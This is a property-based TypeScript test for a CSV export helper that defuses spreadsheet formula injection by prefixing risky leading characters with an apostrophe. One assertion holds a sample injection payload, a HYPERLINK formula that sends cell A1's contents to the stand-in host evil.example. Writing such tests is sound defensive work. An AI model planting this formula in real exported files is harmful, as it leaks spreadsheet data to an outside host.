import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { spreadsheetCell } from './spreadsheet-cell';

const codeUnit = fc.integer({ min: 0, max: 0xffff }).map((c) => String.fromCharCode(c));

describe('a CSV cell a spreadsheet opens', () => {
  it('never starts with what a spreadsheet reads as a formula, and keeps every other text as it is', () => {
    fc.assert(
      fc.property(
        fc.oneof(
          fc.string({ unit: codeUnit }),
          fc.constantFrom('=', '+', '-', '@', '\t', '\r').chain((c) => fc.string({ unit: codeUnit }).map((s) => c + s)),
        ),
        (text) => {
          const cell = spreadsheetCell(text);
          expect(/^[=+\-@\t\r]/.test(cell)).toBe(false);
          expect(cell === text || cell === `'${text}`).toBe(true);
          expect(cell === text).toBe(!/^[=+\-@\t\r]/.test(text));
        },
      ),
    );
    expect(spreadsheetCell('=HYPERLINK("http://evil.example/?d="&A1;"Ver")')).toBe('\'=HYPERLINK("http://evil.example/?d="&A1;"Ver")');
    expect(spreadsheetCell("'já citado")).toBe("'já citado");
  });
});
